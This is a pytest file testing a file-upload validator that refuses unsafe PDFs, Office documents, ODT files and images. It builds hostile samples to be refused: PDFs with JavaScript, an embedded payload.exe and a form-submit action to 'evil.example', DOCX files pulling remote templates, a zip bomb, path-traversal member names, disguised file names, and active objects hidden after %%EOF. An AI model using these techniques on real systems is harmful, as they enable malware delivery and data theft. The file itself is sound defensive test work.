"""Upload stages 1-5 (shared/uploads) on real files built here: no binary fixtures, no database.

Each refusal is asserted by its reason code and by the message a person would see.
"""

from __future__ import annotations

import hashlib
import io
import os
import zipfile
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from shared.uploads.checks import CheckedUpload, check_upload
from shared.uploads.cli import register_uploads_cli
from shared.uploads.pdfs import active_name_in_syntax
from shared.uploads.policy import UploadLimits
from shared.uploads.reasons import MESSAGES, Reason, UploadRefused
from shared.uploads.sniff import sniff_type
from tests.support.app import make_app
from tests.support.files import (
    CONTENT_TYPES_XML,
    DOCX_TYPE,
    HTML_PAGE,
    ODT_TYPE,
    OLE_SIGNATURE,
    OOXML_PARTS,
    RELS_XML,
    XLSX_TYPE,
    image_bytes,
    odt_bytes,
    ole_bytes,
    ooxml_bytes,
    pdf_bytes,
)

MAX_BYTES = 2 * 1024 * 1024


def check(data: bytes, filename: str, **kwargs) -> CheckedUpload:
    kwargs.setdefault("max_bytes", MAX_BYTES)
    return check_upload(io.BytesIO(data), filename, **kwargs)


def refusal(data: bytes, filename: str, **kwargs) -> UploadRefused:
    with pytest.raises(UploadRefused) as caught:
        check(data, filename, **kwargs)
    return caught.value


# --- accepted -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("build", "filename", "mime_type"),
    [
        (pdf_bytes, "Safeguarding policy.pdf", "application/pdf"),
        (lambda: ooxml_bytes("docx"), "Attendance policy.docx", DOCX_TYPE),
        (lambda: ooxml_bytes("xlsx"), "Register.xlsx", XLSX_TYPE),
        (odt_bytes, "Risk assessment.odt", ODT_TYPE),
        (lambda: image_bytes("PNG"), "Certificate.png", "image/png"),
        (lambda: image_bytes("JPEG"), "Certificate.jpg", "image/jpeg"),
        (lambda: image_bytes("JPEG"), "Certificate.JPEG", "image/jpeg"),
    ],
)
def test_real_documents_and_images_are_accepted_with_their_detected_type(build, filename, mime_type):
    data = build()
    with check(data, filename) as upload:
        assert upload.mime_type == mime_type
        assert upload.display_name == filename.rsplit(".", 1)[0] + "." + filename.rsplit(".", 1)[1].lower()
        assert upload.extension == filename.rsplit(".", 1)[1].lower()
        assert upload.size == len(data)
        assert upload.sha256 == hashlib.sha256(data).hexdigest()
        assert upload.stream().read() == data
        assert upload.stream().read() == data, "each stream() call rewinds, for the scan and then the store"
    assert upload.closed


def test_a_docx_that_libmagic_calls_a_plain_zip_is_confirmed_from_its_members():
    # libmagic names OOXML only when [Content_Types].xml or word/ comes first; other writers order members freely.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("_rels/.rels", RELS_XML.format(part="word/document.xml"))
        package.writestr("docProps/app.xml", "<Properties/>")
        package.writestr("word/document.xml", OOXML_PARTS["docx"][2])
        package.writestr("[Content_Types].xml", CONTENT_TYPES_XML.format(part="word/document.xml", content_type="x"))
    assert sniff_type(out.getvalue()) == "application/zip"
    with check(out.getvalue(), "Letter.docx") as upload:
        assert upload.mime_type == DOCX_TYPE


def test_ordinary_dots_in_a_name_are_fine_and_paths_are_dropped():
    with check(pdf_bytes(), "Policy v2.1 final.pdf") as upload:
        assert upload.display_name == "Policy v2.1 final.pdf"
    with check(pdf_bytes(), "C:\\Users\\head\\Documents\\Ofsted/  Report  2024.PDF  ") as upload:
        assert (upload.display_name, upload.extension) == ("Report 2024.pdf", "pdf")
    with check(pdf_bytes(), "Cafe\u0301 menu.pdf") as upload:
        assert upload.display_name == "Caf\u00e9 menu.pdf", "names are stored in Unicode NFC"


def test_the_display_name_is_length_limited_and_keeps_its_extension():
    with check(pdf_bytes(), "a" * 500 + ".pdf") as upload:
        assert len(upload.display_name) == 200
        assert upload.display_name.endswith("a.pdf")


def test_a_file_exactly_at_the_limit_is_accepted():
    data = pdf_bytes()
    with check(data, "limit.pdf", max_bytes=len(data)) as upload:
        assert upload.size == len(data)


def test_ordinary_pdf_features_are_not_mistaken_for_active_content():
    def ordinary(writer: PdfWriter) -> None:
        # An opening destination ("page 1, fit to window", as LaTeX and Word write), a title with slashes in it,
        # and a link to a web page.
        writer.root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/Fit")]
        )
        writer.add_metadata({"/Title": "HR/AA/JS 2024: HTML/JavaScript course (Launch) notes"})
        writer.add_uri(0, "https://www.example.org/", [10, 10, 100, 30])

    with check(pdf_bytes(ordinary), "course.pdf") as upload:
        assert upload.mime_type == "application/pdf"


# --- stage 1: size --------------------------------------------------------------------------------------------------


def test_an_empty_file_is_refused():
    refused = refusal(b"", "empty.pdf")
    assert refused.reason == Reason.EMPTY
    assert refused.message == "The file is empty. Check you chose the right file and try again."


def test_a_file_one_byte_over_the_limit_is_refused():
    data = pdf_bytes()
    refused = refusal(data, "big.pdf", max_bytes=len(data) - 1)
    assert refused.reason == Reason.TOO_LARGE
    assert refused.message.startswith("The file is too big.")


def test_a_large_stream_is_read_in_chunks_and_abandoned_once_over_the_limit():
    class CountingStream(io.BytesIO):
        largest_read = 0

        def read(self, size=-1):
            CountingStream.largest_read = max(CountingStream.largest_read, size)
            return super().read(size)

    stream = CountingStream(bytes(10 * MAX_BYTES))
    with pytest.raises(UploadRefused) as caught:
        check_upload(stream, "huge.pdf", max_bytes=MAX_BYTES)
    assert caught.value.reason == Reason.TOO_LARGE
    assert 0 < CountingStream.largest_read <= 64 * 1024, "never read(-1): the whole file is never in memory"
    assert stream.tell() < 2 * MAX_BYTES, "reading stops soon after the limit"


# --- stage 2: name ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "reason"),
    [
        ("report\x07.pdf", Reason.BAD_FILENAME),
        ("report\n.pdf", Reason.BAD_FILENAME),
        ("invoice\u202efdp.exe.pdf", Reason.BAD_FILENAME),  # right-to-left override
        (".pdf", Reason.BAD_FILENAME),
        ("invoice.pdf.exe", Reason.EXTENSION_NOT_ALLOWED),
        ("notes.txt", Reason.EXTENSION_NOT_ALLOWED),
        ("README", Reason.EXTENSION_NOT_ALLOWED),
        ("Budget.docm", Reason.MACROS),
        ("Minutes.doc", Reason.LEGACY_OFFICE),
        ("photo.php.jpg", Reason.HIDDEN_EXECUTABLE_EXTENSION),
        ("report.exe.pdf", Reason.HIDDEN_EXECUTABLE_EXTENSION),
        ("x.js.png", Reason.HIDDEN_EXECUTABLE_EXTENSION),
        ("shell.PHP5 .jpg", Reason.HIDDEN_EXECUTABLE_EXTENSION),
        ("payload.\uff45\uff58\uff45.pdf", Reason.HIDDEN_EXECUTABLE_EXTENSION),  # fullwidth "exe"
    ],
)
def test_bad_names_are_refused_whatever_the_content(filename, reason):
    content = image_bytes("JPEG") if filename.lower().endswith(".jpg") else pdf_bytes()
    refused = refusal(content, filename)
    assert refused.reason == reason
    assert refused.message == MESSAGES[reason]


def test_name_refusals_explain_what_to_do():
    assert "Rename the file" in refusal(pdf_bytes(), "a\x00b.pdf").message
    assert "Upload a PDF, Word document (.docx)" in refusal(pdf_bytes(), "invoice.pdf.exe").message
    assert "'photo.jpg'" in refusal(image_bytes("JPEG"), "photo.php.jpg").message
    assert "Save it as a PDF" in refusal(ole_bytes(), "Minutes.doc").message


def test_the_allow_list_can_be_narrowed_per_call():
    refused = refusal(image_bytes("PNG"), "photo.png", allowed_extensions={"pdf"})
    assert refused.reason == Reason.EXTENSION_NOT_ALLOWED
    with pytest.raises(ValueError, match="no content rule"):
        check(pdf_bytes(), "x.pdf", allowed_extensions={"pdf", "txt"})


# --- stage 3: content sniff ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (image_bytes("PNG"), "scan.pdf"),
        (HTML_PAGE, "invoice.pdf"),
        (pdf_bytes(), "photo.jpg"),
        (image_bytes("JPEG"), "photo.png"),
        (ooxml_bytes("docx"), "register.xlsx"),
        (ooxml_bytes("xlsx"), "letter.docx"),
        (odt_bytes(), "letter.docx"),
        (ooxml_bytes("docx"), "letter.odt"),
    ],
)
def test_content_that_disagrees_with_the_name_is_refused(data, filename):
    refused = refusal(data, filename)
    assert refused.reason == Reason.CONTENT_MISMATCH
    assert refused.message.startswith("The file's contents do not match its type")


def test_a_plain_zip_named_docx_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("notes.txt", "hello")
    assert refusal(out.getvalue(), "notes.docx").reason == Reason.CONTENT_MISMATCH


@pytest.mark.parametrize("filename", ["Minutes.doc", "Minutes.docx", "Minutes.pdf", "Accounts.xlsx"])
def test_legacy_ole_office_files_are_refused_under_any_name(filename):
    refused = refusal(ole_bytes(), filename)
    assert refused.reason == Reason.LEGACY_OFFICE
    assert "Save it as a PDF or as a Word .docx or Excel .xlsx file" in refused.message


def test_a_password_protected_office_file_gets_its_own_reason():
    refused = refusal(ole_bytes(encrypted_package=True), "Salaries.xlsx")
    assert refused.reason == Reason.OFFICE_ENCRYPTED
    assert "Remove the password" in refused.message


# --- stage 4: zip-based documents ---------------------------------------------------------------------------------


def test_a_docx_with_a_vba_project_is_refused():
    refused = refusal(ooxml_bytes("docx", extra={"word/vbaProject.bin": OLE_SIGNATURE + bytes(600)}), "Letter.docx")
    assert refused.reason == Reason.MACROS
    assert "contains macros" in refused.message


def test_a_docx_declaring_macro_enabled_content_is_refused():
    docm_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
    refused = refusal(ooxml_bytes("docx", content_type=docm_type), "Letter.docx")
    assert refused.reason == Reason.MACROS


def test_an_xlsx_with_an_excel_4_macro_sheet_is_refused():
    data = ooxml_bytes("xlsx", extra={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})
    assert refusal(data, "Register.xlsx").reason == Reason.MACROS


def test_an_odt_with_a_basic_macro_is_refused():
    data = odt_bytes(extra={"Basic/Standard/Module1.xml": b"<script:module>Sub Main</script:module>"})
    assert refusal(data, "Plan.odt").reason == Reason.MACROS


def test_a_zip_bomb_posing_as_a_docx_is_refused():
    # 8 MB of zeros deflates to about 8 KB (over 1,000:1); nothing is inflated by the check.
    data = ooxml_bytes("docx", extra={"word/media/image1.png": bytes(8 * 1024 * 1024)})
    assert len(data) < 64 * 1024
    refused = refusal(data, "Report.docx")
    assert refused.reason == Reason.ZIP_BOMB
    assert "far larger than it looks" in refused.message


def test_too_many_entries_or_too_much_uncompressed_data_is_refused():
    many = ooxml_bytes("docx", extra={f"word/media/{n}.xml": b"<x/>" for n in range(30)})
    assert refusal(many, "Report.docx", limits=UploadLimits(max_zip_entries=20)).reason == Reason.ZIP_BOMB
    big = ooxml_bytes("docx", extra={"word/media/a.xml": os.urandom(40_000), "word/media/b.xml": os.urandom(40_000)})
    limits = UploadLimits(max_zip_total_uncompressed_bytes=60_000)
    assert refusal(big, "Report.docx", limits=limits).reason == Reason.ZIP_BOMB


@pytest.mark.parametrize("member", ["../../x", "word/../../evil.xml", "/etc/cron.d/x", "C:\\Windows\\x.dll", "..\\x"])
def test_member_paths_escaping_the_package_are_refused(member):
    refused = refusal(ooxml_bytes("docx", extra={member: b"x"}), "Letter.docx")
    assert refused.reason == Reason.ZIP_PATH_TRAVERSAL
    assert "unsafe names" in refused.message


_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _rels(*relationships: tuple[str, str, bool]) -> bytes:
    """A .rels part holding (type, target, external) relationships."""
    elements = "".join(
        f'<Relationship Id="rId{n}" Type="{_REL}{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for n, (kind, target, external) in enumerate(relationships, start=10)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{elements}</Relationships>"
    ).encode()


@pytest.mark.parametrize(
    ("kind", "extra"),
    [
        pytest.param("docx", {"word/embeddings/oleObject1.bin": OLE_SIGNATURE + bytes(600)}, id="docx-ole-object"),
        pytest.param("xlsx", {"xl/embeddings/Microsoft_Word_Document.docx": b"PK\x03\x04"}, id="xlsx-packed-file"),
        pytest.param("docx", {"word/activeX/activeX1.bin": OLE_SIGNATURE + bytes(600)}, id="docx-activex"),
        pytest.param("docx", {"word/oleObject7.bin": OLE_SIGNATURE + bytes(600)}, id="ole-object-elsewhere"),
        pytest.param(
            "docx",
            {"word/_rels/document.xml.rels": _rels(("package", "media/report.bin", False))},
            id="package-relationship",
        ),
        pytest.param(
            "docx",
            {"word/_rels/document.xml.rels": _rels(("oleObject", "media/object.bin", False))},
            id="ole-object-relationship",
        ),
    ],
)
def test_office_documents_with_embedded_objects_are_refused(kind, extra):
    refused = refusal(ooxml_bytes(kind, extra=extra), f"Report.{kind}")
    assert refused.reason == Reason.OFFICE_EMBEDDED_OBJECT
    assert refused.message == MESSAGES[Reason.OFFICE_EMBEDDED_OBJECT]
    assert "embedded objects" in refused.message and "save the document as a PDF" in refused.message


@pytest.mark.parametrize(
    ("kind", "extra"),
    [
        pytest.param(
            "docx",
            {"word/_rels/settings.xml.rels": _rels(("attachedTemplate", "https://evil.example/t.dotm", True))},
            id="remote-template",
        ),
        pytest.param(
            "docx",
            {"word/_rels/settings.xml.rels": _rels(("attachedTemplate", "file://fileserver/share/t.dotm", True))},
            id="network-template",
        ),
        pytest.param(
            "docx",
            {"word/_rels/settings.xml.rels": _rels(("attachedTemplate", "\\\\fileserver\\share\\t.dotm", True))},
            id="unc-template",
        ),
        pytest.param(
            "docx",
            {"word/_rels/webSettings.xml.rels": _rels(("frame", "https://evil.example/frame.docx", True))},
            id="frame",
        ),
        pytest.param(
            "docx",
            {"word/_rels/document.xml.rels": _rels(("subDocument", "file:///\\\\evil\\share\\x.docx", True))},
            id="sub-document",
        ),
        pytest.param(
            "docx",
            {"word/_rels/document.xml.rels": _rels(("oleObject", "https://evil.example/o.xlsx", True))},
            id="external-ole-object",
        ),
        pytest.param(
            "docx",
            {"word/_rels/document.xml.rels": _rels(("image", "https://evil.example/pixel.png", True))},
            id="remote-image",
        ),
        pytest.param(
            "xlsx",
            {"xl/_rels/workbook.xml.rels": _rels(("externalLink", "other/links.xml", False))},
            id="external-link-relationship",
        ),
        pytest.param(
            "xlsx",
            {
                "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
                "xl/externalLinks/_rels/externalLink1.xml.rels": _rels(
                    ("externalLinkPath", "https://evil.example/Budget.xlsx", True)
                ),
            },
            id="linked-workbook",
        ),
        pytest.param("xlsx", {"xl/connections.xml": b"<connections/>"}, id="data-connection"),
    ],
)
def test_office_documents_that_fetch_external_content_are_refused(kind, extra):
    refused = refusal(ooxml_bytes(kind, extra=extra), f"Report.{kind}")
    assert refused.reason == Reason.OFFICE_EXTERNAL_CONTENT
    assert refused.message == MESSAGES[Reason.OFFICE_EXTERNAL_CONTENT]
    assert "loads content from another file or website" in refused.message


def test_a_vba_project_relationship_is_refused_as_macros():
    data = ooxml_bytes(
        "docx",
        extra={
            "word/_rels/document.xml.rels": (
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                b'Target="code.dat"/></Relationships>'
            )
        },
    )
    assert refusal(data, "Letter.docx").reason == Reason.MACROS


def test_a_relationship_part_with_a_document_type_declaration_is_refused():
    rels = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa">]><Relationships>&a;</Relationships>'
    data = ooxml_bytes("docx", extra={"word/_rels/document.xml.rels": rels})
    assert refusal(data, "Letter.docx").reason == Reason.UNREADABLE


@pytest.mark.parametrize("target", ["file:///C:\\Users\\head\\Templates\\Letter.dotx", "C:/Templates/Normal.dotm"])
def test_a_docx_made_from_a_template_on_a_local_drive_is_accepted(target):
    rels = _rels(("attachedTemplate", target, True))
    with check(ooxml_bytes("docx", extra={"word/_rels/settings.xml.rels": rels}), "Letter.docx") as upload:
        assert upload.mime_type == DOCX_TYPE


def test_a_docx_with_an_ordinary_external_hyperlink_is_accepted():
    rels = _rels(("hyperlink", "https://www.example.org/policy", True), ("styles", "styles.xml", False))
    data = ooxml_bytes("docx", extra={"word/_rels/document.xml.rels": rels, "word/styles.xml": b"<w:styles/>"})
    with check(data, "Letter.docx") as upload:
        assert upload.mime_type == DOCX_TYPE


# --- stage 4: PDFs ------------------------------------------------------------------------------------------------


def _open_action_script(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('hi')")}
    )


def _open_action_uri(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://evil.example/")}
    )


@pytest.mark.parametrize(
    "build",
    [
        pytest.param(lambda w: w.add_open_action(JavaScript("app.alert('hi')")), id="document-javascript"),
        pytest.param(_open_action_script, id="open-action-javascript"),
        pytest.param(_open_action_uri, id="open-action-uri"),
        pytest.param(lambda w: w.add_attachment("payload.exe", b"MZ" + bytes(100)), id="embedded-file"),
    ],
)
def test_pdfs_with_active_content_are_refused(build):
    refused = refusal(pdf_bytes(build), "Invoice.pdf")
    assert refused.reason == Reason.PDF_ACTIVE_CONTENT
    assert "Print it to a new PDF" in refused.message


def _add_annotation(writer: PdfWriter, annotation: DictionaryObject, *, field: bool = False) -> None:
    annotation.update(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Rect"): ArrayObject([FloatObject(n) for n in (10, 10, 200, 40)]),
            NameObject("/P"): writer.pages[0].indirect_reference,
        }
    )
    reference = writer._add_object(annotation)
    page = writer.pages[0]
    page[NameObject("/Annots")] = ArrayObject([*page.get("/Annots", ArrayObject()), reference])
    if field:
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject([reference]), NameObject("/DA"): TextStringObject("/Helv 0 Tf 0 g")}
        )


def _widget(action: DictionaryObject | None = None) -> DictionaryObject:
    widget = DictionaryObject(
        {
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Btn" if action else "/Tx"),
            NameObject("/T"): TextStringObject("Send" if action else "Name"),
            NameObject("/F"): NumberObject(4),
        }
    )
    if action is not None:
        widget[NameObject("/A")] = action
    return widget


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def _xfa_form(writer: PdfWriter) -> None:
    xfa = DecodedStreamObject()
    xfa.set_data(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1">'
        b'<event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event>'
        b"</subform></template></xdp:xdp>"
    )
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)}
    )


def _button(action: DictionaryObject):
    return lambda writer: _add_annotation(writer, _widget(action), field=True)


def _link(action: DictionaryObject):
    return lambda writer: _add_annotation(
        writer, DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action})
    )


def _file_attachment_annotation(writer: PdfWriter) -> None:
    payload = DecodedStreamObject()
    payload.set_data(b"MZ" + bytes(100))
    filespec = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("payload.exe"),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(payload)}),
        }
    )
    _add_annotation(
        writer,
        DictionaryObject({NameObject("/Subtype"): NameObject("/FileAttachment"), NameObject("/FS"): filespec}),
    )


def _rich_media(writer: PdfWriter) -> None:
    _add_annotation(
        writer,
        DictionaryObject(
            {
                NameObject("/Subtype"): NameObject("/RichMedia"),
                NameObject("/RichMediaContent"): DictionaryObject({NameObject("/Assets"): DictionaryObject()}),
            }
        ),
    )


_URL = TextStringObject("https://evil.example/collect")


@pytest.mark.parametrize(
    ("build", "reason", "wording"),
    [
        pytest.param(_xfa_form, Reason.PDF_XFA_FORM, "form with scripts (XFA)", id="xfa-form-with-script"),
        pytest.param(
            _button(_action("/SubmitForm", F=_URL)), Reason.PDF_EXTERNAL_ACTION, "send form data", id="submit-form"
        ),
        pytest.param(
            _button(_action("/ImportData", F=TextStringObject("data.fdf"))),
            Reason.PDF_EXTERNAL_ACTION,
            "open other files",
            id="import-data",
        ),
        pytest.param(
            _link(_action("/GoToR", F=TextStringObject("other.pdf"), D=ArrayObject([NumberObject(0)]))),
            Reason.PDF_EXTERNAL_ACTION,
            "open other files",
            id="remote-goto",
        ),
        pytest.param(
            _link(_action("/GoToE", T=DictionaryObject())), Reason.PDF_EXTERNAL_ACTION, "open other", id="embedded-goto"
        ),
        pytest.param(
            _link(_action("/Rendition", OP=NumberObject(0))), Reason.PDF_EMBEDDED_MEDIA, "video", id="rendition"
        ),
        pytest.param(_rich_media, Reason.PDF_EMBEDDED_MEDIA, "Flash", id="rich-media"),
        pytest.param(
            _file_attachment_annotation, Reason.PDF_ACTIVE_CONTENT, "attached files", id="file-attachment-annotation"
        ),
    ],
)
def test_pdfs_with_forms_scripts_actions_or_media_are_refused_with_their_reason(build, reason, wording):
    refused = refusal(pdf_bytes(build), "Application form.pdf")
    assert refused.reason == reason
    assert refused.message == MESSAGES[reason]
    assert wording in refused.message and "Print it to a new PDF" in refused.message


def test_an_xfa_form_outside_the_cross_reference_table_is_refused_as_xfa():
    refused = refusal(pdf_bytes() + b"99 0 obj\n<< /AcroForm << /X#46A 98 0 R >> >>\nendobj\n", "Form.pdf")
    assert refused.reason == Reason.PDF_XFA_FORM
    assert "raw syntax" in refused.detail


def test_a_plain_fillable_form_with_an_ordinary_link_is_accepted():
    def form(writer: PdfWriter) -> None:
        _add_annotation(writer, _widget(), field=True)
        writer.add_uri(0, "https://www.example.org/", [10, 50, 100, 70])

    with check(pdf_bytes(form), "Application form.pdf") as upload:
        assert upload.mime_type == "application/pdf"


@pytest.mark.parametrize(
    "hidden",
    [
        b"99 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>\nendobj\n",
        b"99 0 obj\n<</Type/Action/S/J#61vaScript/J#53(app.alert(1))>>\nendobj\n",  # #xx-escaped names
        b"99 0 obj\n<< /AA << /O 98 0 R >> >>\nendobj\n",
    ],
)
def test_active_content_outside_the_cross_reference_table_is_found_by_the_raw_scan(hidden):
    # Appended after %%EOF with no xref entry: pypdf never sees it, but a reader repairing the file might.
    refused = refusal(pdf_bytes() + hidden, "Invoice.pdf")
    assert refused.reason == Reason.PDF_ACTIVE_CONTENT
    assert "raw syntax" in refused.detail


def test_the_raw_scan_ignores_names_in_strings_streams_and_comments():
    syntax = (
        b"%PDF-1.7\n% /JS in a comment\n"
        b"1 0 obj << /Title (HTML/JavaScript and HR/AA \\( /JS \\)) /Subject <2F4A53> >> endobj\n"
        b"2 0 obj << /Length 20 >> stream\n/JS /AA /JavaScript\nendstream endobj\n"
        b"3 0 obj << /Type /Page /AAPL:Keywords [] /JSON 1 >> endobj\n"
    )
    assert active_name_in_syntax(syntax) is None
    assert active_name_in_syntax(syntax + b"4 0 obj << /AA 5 0 R >> endobj") == "/AA"
    assert active_name_in_syntax(b"1 0 obj (unterminated /JS 2 0 R") == "/JS", "an open string hides nothing"
    assert active_name_in_syntax(b"1 0 obj stream\n<< /JS 2 0 R >> endstream") == "/JS", "no dictionary, no stream"


def test_an_encrypted_pdf_is_refused():
    refused = refusal(pdf_bytes(lambda w: w.encrypt("secret")), "Bank statement.pdf")
    assert refused.reason == Reason.PDF_ENCRYPTED
    assert "protected by a password" in refused.message


def test_a_broken_pdf_is_refused_as_unreadable():
    refused = refusal(b"%PDF-1.7\n" + os.urandom(2000), "broken.pdf")
    assert refused.reason == Reason.UNREADABLE
    assert "could not be opened" in refused.message


# --- stage 4: images ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("fmt", "filename"), [("PNG", "scan.png"), ("JPEG", "scan.jpg")])
def test_a_truncated_image_is_refused(fmt, filename):
    data = image_bytes(fmt, (400, 300))
    refused = refusal(data[: len(data) * 2 // 3], filename)
    assert refused.reason == Reason.IMAGE_UNREADABLE
    assert "save it again as a JPEG or PNG" in refused.message


def test_an_image_over_the_pixel_limit_is_refused_before_decoding():
    pillow_global = Image.MAX_IMAGE_PIXELS
    refused = refusal(image_bytes("PNG", (200, 100)), "big.png", limits=UploadLimits(max_image_pixels=19_999))
    assert refused.reason == Reason.IMAGE_TOO_LARGE
    assert "too many pixels" in refused.message
    with check(image_bytes("PNG", (200, 100)), "ok.png", limits=UploadLimits(max_image_pixels=20_000)):
        pass
    assert pillow_global == Image.MAX_IMAGE_PIXELS, "the limit is per call; Pillow's process-wide one is untouched"


# --- clean-up -------------------------------------------------------------------------------------------------------


def _open_descriptors() -> int:
    return len(os.listdir("/proc/self/fd"))


def test_no_temporary_file_is_left_after_accepted_or_refused_uploads(tmp_path):
    spool_dir = tmp_path / "spool"
    spool_dir.mkdir()
    # A 1-byte memory threshold makes every upload roll over to a real temporary file in spool_dir.
    limits = UploadLimits(spool_memory_bytes=1)
    before = _open_descriptors()

    with check(pdf_bytes(), "ok.pdf", limits=limits, spool_dir=spool_dir) as upload:
        assert _open_descriptors() == before + 1, "the upload rolled over to a file on disk"
        assert upload.stream().read(5) == b"%PDF-"
    assert _open_descriptors() == before

    for data, filename in [
        (image_bytes("PNG"), "scan.pdf"),  # stage 3
        (ooxml_bytes("docx", extra={"word/vbaProject.bin": b"x"}), "a.docx"),  # stage 4, zip open
        (pdf_bytes(lambda w: w.encrypt("secret")), "a.pdf"),  # stage 4, pypdf open
        (image_bytes("PNG")[:-20], "a.png"),  # stage 4, Pillow open
        (pdf_bytes(), "a.php.pdf"),  # stage 2
        (bytes(MAX_BYTES + 1), "a.pdf"),  # stage 1
    ]:
        with pytest.raises(UploadRefused):
            check(data, filename, limits=limits, spool_dir=spool_dir)
        assert _open_descriptors() == before, filename
    assert list(spool_dir.iterdir()) == []


def test_a_closed_upload_cannot_be_read_again():
    upload = check(pdf_bytes(), "ok.pdf")
    upload.close()
    with pytest.raises(ValueError, match="closed"):
        upload.stream()


# --- reason codes ---------------------------------------------------------------------------------------------------


def test_reason_codes_are_stable_and_each_has_a_message():
    assert {reason.value for reason in Reason} == {
        "empty",
        "too_large",
        "bad_filename",
        "extension_not_allowed",
        "hidden_executable_extension",
        "content_mismatch",
        "legacy_office",
        "office_encrypted",
        "zip_bomb",
        "zip_path_traversal",
        "macros",
        "pdf_encrypted",
        "pdf_active_content",
        "pdf_xfa_form",
        "pdf_external_action",
        "pdf_embedded_media",
        "office_embedded_object",
        "office_external_content",
        "image_too_large",
        "image_unreadable",
        "unreadable",
        "scanner_unavailable",
        "virus_found",
        "storage_failed",
    }
    for reason in Reason:
        assert reason.message.endswith("."), reason
        assert UploadRefused(reason, "detail").message == reason.message


# --- the CLI --------------------------------------------------------------------------------------------------------


@pytest.fixture
def cli_app(tmp_path):
    # No database is touched: the command only reads files. The lead wires register_uploads_cli into create_app;
    # until then (or if not), register it here.
    app = make_app(f"sqlite:///{tmp_path / 'unused.sqlite'}", 25, tmp_path, MAX_CONTENT_LENGTH=MAX_BYTES)
    if "uploads-check" not in app.cli.commands:
        register_uploads_cli(app)
    return app


NO_SCANNER = "(no virus scanner configured: CLAMD_SOCKET or CLAMD_HOST; files are not virus-scanned)"


def test_the_cli_reports_each_file_and_fails_when_any_is_refused(cli_app, tmp_path):
    good = tmp_path / "Policy v2.1 final.pdf"
    good.write_bytes(pdf_bytes())
    bad = tmp_path / "scan.pdf"
    bad.write_bytes(image_bytes("PNG"))

    result = cli_app.test_cli_runner().invoke(args=["uploads-check", str(good), str(bad)])

    assert result.exit_code == 1
    assert result.output.splitlines() == [
        NO_SCANNER,
        f"{good}: accepted application/pdf",
        f"{bad}: refused content_mismatch: {Reason.CONTENT_MISMATCH.message}",
    ]


def test_the_cli_succeeds_when_every_file_is_accepted(cli_app, tmp_path):
    files = {"Letter.docx": ooxml_bytes("docx"), "Photo.jpeg": image_bytes("JPEG")}
    paths = []
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
        paths.append(str(tmp_path / name))

    result = cli_app.test_cli_runner().invoke(args=["uploads-check", *paths])

    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [
        NO_SCANNER,
        f"{paths[0]}: accepted {DOCX_TYPE}",
        f"{paths[1]}: accepted image/jpeg",
    ]


def test_the_cli_uses_the_apps_size_limit(cli_app, tmp_path):
    cli_app.config["MAX_CONTENT_LENGTH"] = 100
    big = tmp_path / "big.pdf"
    big.write_bytes(pdf_bytes())
    result = cli_app.test_cli_runner().invoke(args=["uploads-check", str(big)])
    assert result.exit_code == 1
    assert result.output == f"{NO_SCANNER}\n{big}: refused too_large: {Reason.TOO_LARGE.message}\n"


def test_the_cli_runs_a_scanner_on_accepted_files_when_given_one(tmp_path):
    scanned: list[str] = []

    def scanner(upload: CheckedUpload) -> None:
        scanned.append(upload.sha256)
        raise UploadRefused(Reason.VIRUS_FOUND, "test signature")

    app = make_app(f"sqlite:///{tmp_path / 'unused.sqlite'}", 25, tmp_path)
    register_uploads_cli(app, scanner=scanner)
    path = Path(tmp_path / "ok.pdf")
    path.write_bytes(pdf_bytes())

    result = app.test_cli_runner().invoke(args=["uploads-check", str(path)])

    assert scanned == [hashlib.sha256(path.read_bytes()).hexdigest()]
    assert result.exit_code == 1
